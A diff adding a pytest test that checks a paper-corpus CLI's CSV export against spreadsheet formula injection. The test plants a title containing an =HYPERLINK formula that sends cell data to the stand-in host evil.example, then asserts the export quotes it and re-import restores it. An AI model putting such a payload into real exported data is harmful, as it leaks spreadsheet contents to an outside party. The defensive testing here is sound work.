@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import shutil
 from pathlib import Path
 
 from click.testing import CliRunner
@@ -87,3 +88,31 @@ def test_import_missing_columns(survey_dir: Path, tmp_path: Path) -> None:
     result = CliRunner().invoke(cli, ["--root", str(survey_dir), "import", "csv", str(bad)])
     assert result.exit_code == 1
     assert "papers.csv:1: missing columns: first_author" in result.stderr
+
+
+def test_formula_like_titles_cannot_run_in_a_spreadsheet_and_round_trip(
+    corpus_copy: Path, tmp_path: Path
+) -> None:
+    import pandas as pd
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    rec = corpus_copy / "corpus" / "c3.yaml"
+    text = rec.read_text(encoding="utf-8")
+    original = next(ln for ln in text.splitlines() if ln.startswith("title:"))
+    rec.write_text(text.replace(original, "title: '" + formula.replace("'", "''") + "'"), encoding="utf-8")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(cli, ["--root", str(corpus_copy), "export", "csv", str(out)])
+    assert result.exit_code == 0, result.output
+    rows = _rows(out / "papers.csv", "key")
+    assert rows["c3"]["title"] == "'" + formula  # a spreadsheet shows it as text
+    frame = pd.read_csv(out / "papers.csv", dtype=str, keep_default_na=False)
+    assert not frame["title"].str.match(r"^[=+@\t\r-]").any()
+    # Our own import reads the quoted cell back as the title that was written.
+    fresh = tmp_path / "fresh"
+    shutil.copytree(corpus_copy / "taxonomy", fresh / "taxonomy")
+    args = ["--root", str(fresh), "import", "csv", str(out / "papers.csv"), str(out / "excluded.csv")]
+    imported = CliRunner().invoke(cli, args)
+    assert imported.exit_code == 0, imported.output
+    import yaml
+
+    assert yaml.safe_load((fresh / "corpus" / "c3.yaml").read_text(encoding="utf-8"))["title"] == formula
